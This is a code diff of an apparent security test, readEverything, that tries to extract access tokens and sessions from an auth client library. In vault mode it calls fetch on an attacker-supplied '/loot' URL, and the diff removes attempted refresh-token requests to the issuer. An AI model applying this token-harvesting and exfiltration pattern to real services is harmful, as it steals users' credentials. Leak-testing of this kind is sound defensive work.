@@ -34,14 +34,11 @@ export async function readEverything({ options, root, attacker }) {
   await attempt(() => auth.accessToken());
   await attempt(() => auth.session());
   await attempt(async () => (await (await import(`${root}/browser.js`)).createClient(options)).accessToken());
-  // A vault that may send to the attacker's server, and the same vault sending there, or to the token endpoint.
+  // A vault that may send to the attacker's server, and the same vault sending there.
   if (options.storage === "vault") {
     const { createClient } = await import(`${root}/browser.js`);
     await attempt(async () => (await (await createClient({ ...options, api: [...options.api, attacker] })).fetch(`${attacker}/loot`)).text());
     await attempt(async () => (await auth.fetch(`${attacker}/loot`)).text());
-    const body = new URLSearchParams({ grant_type: "refresh_token", client_id: options.client_id });
-    await attempt(async () => (await auth.fetch(`${options.issuer}//TOKEN`, { method: "POST", body })).text());
-    await attempt(async () => (await auth.fetch(`${options.issuer}/token`, { method: "POST", body })).text());
   }
   return loot;
 }
